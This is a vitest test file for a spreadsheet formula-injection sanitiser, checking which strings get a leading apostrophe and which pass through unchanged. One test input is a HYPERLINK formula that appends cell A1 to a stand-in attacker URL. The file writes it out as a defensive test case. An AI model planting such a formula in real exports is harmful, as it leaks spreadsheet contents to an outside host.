import { describe, expect, it } from 'vitest'
import { spreadsheetSafe } from './spreadsheet-safe'

describe('spreadsheetSafe', () => {
  it('marks text a spreadsheet would run as a formula', () => {
    for (const value of [
      '=HYPERLINK("https://evil.example?"&A1,"Click")',
      '+12125550134',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\n=1',
      '\0=1',
      '  =1+1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
    ]) {
      expect(spreadsheetSafe(value), JSON.stringify(value)).toBe(`'${value}`)
    }
  })

  it('leaves other text as it is', () => {
    for (const value of [
      'Bistro Ana',
      '12 Main St',
      'a=b',
      'ana+tag@bistro.example',
      '',
      ' ',
      "'quoted",
      'São Paulo',
      '東京都',
    ]) {
      expect(spreadsheetSafe(value), JSON.stringify(value)).toBe(value)
    }
  })
})
